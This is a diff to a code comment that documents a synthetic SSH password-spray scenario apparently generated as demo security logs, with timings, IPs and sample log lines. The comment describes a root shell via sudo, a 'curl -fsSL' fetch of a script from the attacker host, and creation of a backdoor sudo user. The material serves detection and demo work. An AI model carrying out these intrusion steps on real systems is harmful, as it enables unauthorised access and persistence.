@@ -4,11 +4,12 @@
  * time (moved earlier only if the window would end before the story finishes). Exact instants of
  * every step are in `demoStories(opts)[i].steps`; seconds vary slightly with the seed where noted.
  *
- * 1. ssh-spray (linux-syslog, edgewall-fw, zeek), 02:14:07 to about 02:49
+ * 1. ssh-spray (linux-syslog, edgewall-fw, zeek), 02:14:07 to about 02:47
  *    - 203.0.113.45 -> 198.51.100.10:22 (NAT to web-01, 10.20.1.11), rule Legacy-SSH-web-01.
  *    - 63 attempts, 16 user names x 4 rounds, 20-30 s apart: sshd "Failed password for [invalid
  *      user] X from 203.0.113.45", Zeek conn + ssh (auth_success false), CEF allow.
- *    - ~02:41 (spray end + 10 s; seed-dependent): "Accepted password for deploy from 203.0.113.45".
+ *    - about 02:40 (spray end + 12 s; the spray's pace is seed-dependent): "Accepted password for
+ *      deploy from 203.0.113.45"; Zeek ssh auth_success true.
  *    - +2m20s: sudo "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash".
  *    - +40s: audit EXECVE curl -fsSL http://203.0.113.45/x.sh; Zeek http GET /x.sh (curl/8.5.0).
  *    - +55s: groupadd/useradd "new user: name=sysupd, UID=1002"; +20s usermod add to 'sudo';
